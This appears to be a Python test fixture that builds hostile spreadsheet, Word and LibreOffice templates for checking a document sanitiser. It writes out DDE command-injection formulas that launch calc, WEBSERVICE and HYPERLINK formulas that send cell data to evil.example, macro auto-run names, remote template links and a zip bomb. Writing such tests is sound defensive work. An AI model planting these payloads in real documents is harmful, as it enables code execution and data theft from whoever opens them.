"""Templates with nearly everything in them that one must not carry. What must not come through says evil.example."""

import io
import re
import zipfile

from tests.planillas.own import parts, repacked
from tests.planillas.test_own_docx import acta
from tests.planillas.test_own_ods import inventory
from tests.planillas.test_own_xlsx import plain_book

EVIL = "evil.example"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LINK = 'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href'
SCRIPT = 'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
DRAW = 'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
ENTITY = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'

FORMULAS = (
    "cmd|'/c calc'!A1",
    'WEBSERVICE("http://evil.example/"&amp;A1)',
    "[1]Hoja1!$A$1",
    '_xlfn.IMAGE("http://evil.example")',
    'HYPERLINK("http://evil.example/?"&amp;A1,"ver")',
    r"'C:\x\[otro.xlsx]Hoja'!A1",
    'RTD("evil.example",,"x")',
)
ODF_FORMULAS = (
    "DDE(&quot;soffice&quot;;&quot;evil.example&quot;;&quot;a&quot;)",
    "WEBSERVICE(&quot;http://evil.example&quot;)",
    "['file:///evil.example/x.ods'#$Hoja.A1]",
)


def relation(kind: str, target: str, *, external: bool = False, number: int = 900) -> str:
    """Return a relation as it stands in its part."""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId{number}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def relations(*told: str) -> bytes:
    """Return a part of relations."""
    all_of_them = "".join(told)
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{all_of_them}</Relationships>"
    ).encode()


def inserted(data: bytes, before: str, what: str) -> bytes:
    """Return a part with something put in before an end."""
    assert before.encode() in data
    return data.replace(before.encode(), (what + before).encode(), 1)


def book() -> bytes:
    """Return a workbook."""
    content = plain_book([["Nombre", "Nota"], [None, None], [], [], ["Fin"]])
    was = parts(content)
    cells = "".join(
        f'<c r="{chr(65 + n)}9"><f>{text}</f><v>{n}</v></c>'
        for n, text in enumerate([*FORMULAS, "SUM(A9:B9)"])
    )
    rows = inserted(was["xl/worksheets/sheet1.xml"], "</sheetData>", f'<row r="9">{cells}</row>')
    tail = (
        f'<hyperlinks xmlns:r="{R}"><hyperlink ref="A5" r:id="rId905"/><hyperlink ref="B5" r:id="rId906"/></hyperlinks>'
        f'<oleObjects xmlns:r="{R}"><oleObject progId="Package" shapeId="1" r:id="rId901"/></oleObjects>'
        f'<controls xmlns:r="{R}"><control shapeId="2" r:id="rId902" name="Boton"/></controls>'
    )
    names = (
        f'<externalReferences xmlns:r="{R}"><externalReference r:id="rId902"/></externalReferences><definedNames>'
        '<definedName name="Auto_Open" vbProcedure="1">Mod1.x</definedName>'
        '<definedName name="fuera">[1]Hoja1!$A$1</definedName>'
        '<definedName name="dentro">Sheet!$A$1:$A$2</definedName></definedNames>'
    )
    plain = re.sub(rb"<definedNames ?/>", b"", was["xl/workbook.xml"])
    macros = relation("vbaProject", "vbaProject.bin", number=901)
    return repacked(
        content,
        {
            "[Content_Types].xml": was["[Content_Types].xml"].replace(
                BOOK_TYPE.encode(), MACRO_TYPE.encode()
            ),
            "xl/workbook.xml": inserted(plain, "<calcPr", names),
            "xl/_rels/workbook.xml.rels": inserted(
                was["xl/_rels/workbook.xml.rels"],
                "</Relationships>",
                macros.replace(R, "http://schemas.microsoft.com/office/2006/relationships")
                + relation("externalLink", "externalLinks/externalLink1.xml", number=902)
                + relation("connections", "connections.xml", number=903),
            ),
            "xl/vbaProject.bin": b"\xd0\xcf evil.example",
            "xl/evil.bin": b"evil.example",
            "xl/connections.xml": f'<connections {MAIN}><connection name="evil.example"/></connections>'.encode(),
            "xl/queryTables/queryTable1.xml": f'<queryTable {MAIN} name="evil.example" connectionId="1"/>'.encode(),
            "xl/embeddings/oleObject1.bin": b"\xd0\xcf evil.example",
            "xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="urn:x" ax:classid="evil.example"/>',
            "xl/externalLinks/externalLink1.xml": (
                f'<externalLink {MAIN}><externalBook xmlns:r="{R}" r:id="rId1"/></externalLink>'.encode()
            ),
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                relation("externalLinkPath", "http://evil.example/x.xlsx", external=True, number=1)
            ),
            "xl/worksheets/sheet1.xml": inserted(rows, "</worksheet>", tail),
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                relation("oleObject", "../embeddings/oleObject1.bin", number=901),
                relation("control", "../activeX/activeX1.xml", number=902),
                relation("queryTable", "../queryTables/queryTable1.xml", number=903),
                relation("hyperlink", "file://evil.example/x.exe", external=True, number=905),
                relation("hyperlink", "https://ministerio.example/", external=True, number=906),
            ),
        },
    )


def field(*instructions: str) -> str:
    """Return a field cut into runs, as Word writes it."""
    said = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>resultado</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def document() -> bytes:
    """Return a document."""
    content = acta()
    was = parts(content)
    inner = field("PAGE").removeprefix("<w:p>").removesuffix("</w:p>")
    ole = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
    body = (
        field(" INCLUDE", 'PICTURE "http://evil.example/a.png" \\d '),
        field(r"DDEAUTO c:\evil.example calc"),
        field("PAGE"),
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE </w:instrText></w:r>{inner}'
        '<w:r><w:instrText>evil.example</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT http://evil.example/x "><w:r><w:t>simple</w:t></w:r></w:fldSimple>'
        "</w:p>",
        f'<w:altChunk xmlns:r="{R}" r:id="rId901"/>',
        f'<w:p><w:r><w:object><o:OLEObject {ole} xmlns:r="{R}" Type="Embed" r:id="rId902"/></w:object></w:r></w:p>',
        f'<w:p><w:hyperlink xmlns:r="{R}" r:id="rId903"><w:r><w:t>enlace</w:t></w:r></w:hyperlink></w:p>',
    )
    settings = (
        f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/>'
        '<w:mailMerge><w:query w:val="evil.example"/></w:mailMerge>'
    )
    return repacked(
        content,
        {
            "word/document.xml": inserted(was["word/document.xml"], "<w:sectPr", "".join(body)),
            "word/_rels/document.xml.rels": inserted(
                was["word/_rels/document.xml.rels"],
                "</Relationships>",
                relation("aFChunk", "evil.html", number=901)
                + relation("oleObject", "embeddings/o.bin", number=902)
                + relation("hyperlink", "file://evil.example/x", external=True, number=903)
                + relation("vbaProject", "vbaProject.bin", number=904),
            ),
            "word/settings.xml": inserted(was["word/settings.xml"], "</w:settings>", settings),
            "word/_rels/settings.xml.rels": relations(
                relation("attachedTemplate", "http://evil.example/t.dotm", external=True, number=1)
            ),
            "word/evil.html": b"evil.example",
            "word/embeddings/o.bin": b"evil.example",
            "word/vbaProject.bin": b"evil.example",
        },
    )


def ods() -> bytes:
    """Return a spreadsheet of LibreOffice."""
    was = parts(inventory())
    listener = (
        f'<office:event-listeners><script:event-listener {SCRIPT} script:language="ooo:script" '
        f'{LINK}="vnd.sun.star.script:evil.example"/></office:event-listeners>'
    )
    cells = "".join(
        f'<table:table-cell table:formula="of:={text}" office:value-type="float" office:value="1"/>'
        for text in ODF_FORMULAS
    )
    linked = (
        f'<table:table table:name="Otra"><table:table-source {LINK}="http://evil.example/x.ods"/><table:table-row>'
        f'{cells}<table:table-cell><text:p><text:a {LINK}="vnd.sun.star.script:evil.example">a</text:a></text:p>'
        f'<draw:frame {DRAW}><draw:image {LINK}="http://evil.example/a.png"/></draw:frame></table:table-cell>'
        "</table:table-row></table:table>"
    )
    data = inserted(was["content.xml"], "</office:spreadsheet>", linked)
    entry = (
        '<manifest:file-entry manifest:full-path="Basic/evil.example.xml" manifest:media-type="text/xml"/>'
    )
    return repacked(
        inventory(),
        {
            "content.xml": inserted(
                data, "<office:automatic-styles>", f"<office:scripts>{listener}</office:scripts>"
            ),
            "META-INF/manifest.xml": inserted(was["META-INF/manifest.xml"], "</manifest:manifest>", entry),
            "Basic/evil.example.xml": b"<a>evil.example</a>",
            "Scripts/python/evil.py": b"evil.example",
            "Configurations2/accelerator/current.xml": b"<a>evil.example</a>",
        },
    )


def bomb() -> bytes:
    """Return a file that unpacks to far more than it is."""
    return repacked(plain_book([["a", "b"]]), {"xl/media/image1.png": b"\0" * (20 * 1024 * 1024)})


def twice() -> bytes:
    """Return a file with two parts of one name."""
    made = io.BytesIO(plain_book([["a", "b"]]))
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("xl/WORKBOOK.xml", b"<a/>")
    return made.getvalue()
